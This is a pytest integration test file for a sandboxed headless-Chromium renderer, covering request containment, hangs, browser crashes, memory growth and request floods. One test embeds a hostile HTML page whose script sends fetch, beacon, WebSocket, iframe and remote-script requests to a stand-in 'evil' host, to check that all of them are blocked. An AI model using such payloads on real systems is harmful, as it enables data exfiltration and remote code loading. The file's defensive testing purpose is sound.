"""The renderer with the real system Chromium: containment by the guarded fetch, hangs, and a killed browser."""

from __future__ import annotations

import os
import signal
import time
import uuid
from collections.abc import Iterator

import pytest

from techscaniq.config import Settings
from techscaniq.demo.dns_server import LoopbackDNSServer
from techscaniq.evidence.fetch import GuardedFetcher
from techscaniq.evidence.render.browser import Renderer, RenderFailed, find_chromium
from tests.support.dns_fixtures import Tripwire
from tests.support.http_servers import LoopbackHTTPServer, respond, slow_drip

pytestmark = pytest.mark.integration

TEST_ALLOW_NETWORKS = ("127.0.0.0/24",)


@pytest.fixture(scope="module")
def renderer() -> Iterator[Renderer]:
    executable = find_chromium(Settings())
    assert executable, "the browser tests need the system Chromium (make test-deps)"
    running = Renderer(executable)
    running.start()
    yield running
    running.close()


@pytest.fixture
def settings(fixture_dns: LoopbackDNSServer) -> Settings:
    return Settings().with_overrides(allow_networks=TEST_ALLOW_NETWORKS, dns_servers=(fixture_dns.address,))


@pytest.fixture
def server() -> Iterator[LoopbackHTTPServer]:
    with LoopbackHTTPServer() as running:
        yield running


@pytest.fixture
def site(fixture_dns: LoopbackDNSServer) -> str:
    name = f"render-{uuid.uuid4().hex[:8]}.example-company.com"
    fixture_dns.set_records(name, "A", ["127.0.0.1"])
    return name


def test_script_inserted_requests_to_a_forbidden_address_never_reach_it(
    renderer: Renderer,
    settings: Settings,
    server: LoopbackHTTPServer,
    site: str,
    tripwire: Tripwire,
    fixture_dns: LoopbackDNSServer,
) -> None:
    evil = f"evil-{uuid.uuid4().hex[:8]}.example-company.com"
    fixture_dns.set_records(evil, "A", [tripwire.host])
    direct = f"http://{tripwire.host}:{tripwire.port}"
    named = f"http://{evil}:{tripwire.port}"
    page = f"""<!DOCTYPE html><html><head><title>Hostile</title>
<link rel="preconnect" href="{direct}"><link rel="dns-prefetch" href="{named}">
<link rel="stylesheet" href="{direct}/style.css"></head><body><h1>Hostile</h1>
<script>
fetch("{direct}/fetch").catch(() => {{}});
fetch("{named}/named").catch(() => {{}});
const image = new Image(); image.src = "{direct}/pixel.gif"; document.body.appendChild(image);
const script = document.createElement("script"); script.src = "{named}/tag.js"; document.head.appendChild(script);
const frame = document.createElement("iframe"); frame.src = "{direct}/frame"; document.body.appendChild(frame);
try {{ new WebSocket("ws://{tripwire.host}:{tripwire.port}/socket"); }} catch (e) {{}}
navigator.sendBeacon && navigator.sendBeacon("{direct}/beacon", "x");
window.open("{direct}/popup");
document.title = "ran";
</script></body></html>""".encode()
    server.route("/", respond(200, page))
    with GuardedFetcher(settings, deadline_seconds=5.0) as fetcher:
        rendered = renderer.render(server.url("/", site), fetcher, seconds=20)
    time.sleep(0.5)  # anything that slipped out would have connected by now
    tripwire.assert_untouched()
    assert rendered.title == "ran"
    to_tripwire = [r for r in rendered.requests if str(tripwire.port) in r.url]
    assert {r.outcome for r in to_tripwire} <= {"refused", "blocked"}
    refused = {r.url.rsplit("/", 1)[-1] for r in to_tripwire if r.outcome == "refused"}
    assert {"fetch", "named", "pixel.gif", "tag.js", "style.css"} <= refused
    assert all(r.code for r in to_tripwire)


def test_a_page_that_never_finishes_loading_fails_alone(
    renderer: Renderer, settings: Settings, server: LoopbackHTTPServer, site: str
) -> None:
    server.route("/", respond(200, b'<html><body>Loading<img src="/forever.png"></body></html>'))
    server.route("/forever.png", slow_drip(total_bytes=1_000_000, interval_seconds=0.2))
    server.route("/ok", respond(200, b"<html><head><title>fine</title></head><body>ok</body></html>"))
    with GuardedFetcher(settings, deadline_seconds=60.0) as fetcher:
        with pytest.raises(RenderFailed) as failure:
            renderer.render(server.url("/", site), fetcher, seconds=4)
        assert failure.value.code == "render_timeout"
        assert renderer.render(server.url("/ok", site), fetcher, seconds=20).title == "fine"


def test_a_killed_browser_fails_one_page_and_is_relaunched(
    renderer: Renderer, settings: Settings, server: LoopbackHTTPServer, site: str
) -> None:
    server.route("/", respond(200, b"<html><head><title>before</title></head><body>ok</body></html>"))
    server.route("/slow", respond(200, b'<html><body><img src="/drip.png"></body></html>'))
    server.route("/drip.png", slow_drip(total_bytes=1_000_000, interval_seconds=0.2))
    with GuardedFetcher(settings, deadline_seconds=60.0) as fetcher:
        assert renderer.render(server.url("/", site), fetcher, seconds=20).title == "before"
        launches = renderer.launches
        pid = renderer.browser_pid()
        assert pid is not None
        import threading

        killer = threading.Timer(1.5, os.kill, (pid, signal.SIGKILL))
        killer.start()
        with pytest.raises(RenderFailed) as failure:
            renderer.render(server.url("/slow", site), fetcher, seconds=15)
        killer.join()
        assert failure.value.code in {"browser_crashed", "render_failed", "render_timeout"}
        assert renderer.render(server.url("/", site), fetcher, seconds=20).title == "before"
    assert renderer.launches == launches + 1


def test_a_browser_grown_past_its_allowance_is_relaunched_before_the_next_page(
    renderer: Renderer,
    settings: Settings,
    server: LoopbackHTTPServer,
    site: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from techscaniq.evidence.render import browser

    server.route("/", respond(200, b"<html><head><title>page</title></head><body>ok</body></html>"))
    with GuardedFetcher(settings, deadline_seconds=10.0) as fetcher:
        renderer.render(server.url("/", site), fetcher, seconds=20)
        settled = renderer.memory_mb()
        assert settled > 1
        launches = renderer.launches
        assert renderer.render(server.url("/", site), fetcher, seconds=20).title == "page"
        assert renderer.browser_pid() is not None  # the same page again: no growth to speak of
        # An allowance below zero: a browser holding more than half its settled size counts as grown.
        monkeypatch.setattr(browser, "MEMORY_GROWTH_MB", -settled / 2)
        assert renderer.render(server.url("/", site), fetcher, seconds=20).title == "page"
        assert renderer.browser_pid() is None  # let go after the page
        assert renderer.render(server.url("/", site), fetcher, seconds=20).title == "page"
        assert renderer.browser_pid() is not None  # a fresh browser's first page only sets its own baseline
    assert renderer.launches == launches + 1


def test_a_page_that_opens_thousands_of_requests_is_held_to_its_budget(
    renderer: Renderer, settings: Settings, server: LoopbackHTTPServer, site: str
) -> None:
    from techscaniq.evidence.render.browser import MAX_REQUESTS_PER_PAGE

    page = b"""<html><head><title>flood</title></head><body><script>
for (let i = 0; i < 3000; i++) { const image = new Image(); image.src = "/pixel.gif?n=" + i; }
for (let i = 0; i < 500; i++) { fetch("/api?n=" + i).catch(() => {}); }
</script></body></html>"""
    server.route("/", respond(200, page))
    server.route("/pixel.gif", respond(200, b"GIF89a", content_type="image/gif"))
    with GuardedFetcher(settings, deadline_seconds=10.0) as fetcher:
        rendered = renderer.render(server.url("/", site), fetcher, seconds=60)
    assert rendered.title == "flood"
    fetched = [r for r in rendered.requests if r.outcome == "fulfilled"]
    assert len(fetched) <= MAX_REQUESTS_PER_PAGE
    assert any(r.code == "page_budget_spent" for r in rendered.requests)
    assert len(server.seen()) <= MAX_REQUESTS_PER_PAGE
    assert len(rendered.requests) <= 2 * MAX_REQUESTS_PER_PAGE
